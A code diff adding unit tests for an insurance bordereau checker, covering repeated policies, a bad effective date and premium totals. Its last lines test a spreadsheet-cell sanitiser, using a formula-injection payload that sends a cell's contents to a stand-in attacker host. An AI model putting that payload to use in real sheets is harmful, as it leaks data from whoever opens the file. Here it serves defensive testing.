@@ -49,6 +49,38 @@ describe('bordereau period and eligibility', () => {
   });
 });
 
+describe('a carrier\'s file: each policy once (policiesOnce)', () => {
+  const HEADER = ['Policy Number', 'Insured Name', 'Effective Date', 'State', 'Premium'];
+  const rows = [
+    ['P-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
+    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
+    ['p-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
+    ['P-4', 'Cy Young', '2026-12-40', 'TX', '50.00'],
+    ['P-4', 'Cy Young', '2026-12-04', 'TX', '50.00'],
+    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
+  ];
+
+  it('sets the rule for a carrier\'s file only', () => {
+    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' }, { policiesOnce: true }).policiesOnce).toBe(true);
+    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' })).not.toHaveProperty('policiesOnce');
+  });
+
+  it('lists a sound row of the same policy as an earlier sound row, naming that row, and leaves its premium out', () => {
+    const check = checkBdxRowsEligible(rows, HEADER, { ...RULE, policiesOnce: true });
+    expect(check.problems).toEqual([
+      { row: 3, reason: 'Same policy as row 1' },
+      { row: 4, reason: "Effective Date '2026-12-40' is not a date" },
+      { row: 6, reason: 'Same policy as row 2' },
+    ]);
+    expect(check.validRowCount).toBe(3);
+    expect(check.computedCents).toBe(35_000);
+  });
+
+  it('leaves repeated policies alone in a file the client makes (a row per transaction)', () => {
+    expect(checkBdxRowsEligible(rows, HEADER, RULE).problems).toEqual([{ row: 4, reason: "Effective Date '2026-12-40' is not a date" }]);
+  });
+});
+
 describe('spreadsheet cells handed on', () => {
   it('quotes cells a spreadsheet would run as formulas; numbers stay numbers', () => {
     expect(safeSheetCell('=HYPERLINK("http://evil.example/?d="&C3,"Click me")')).toBe('\'=HYPERLINK("http://evil.example/?d="&C3,"Click me")');
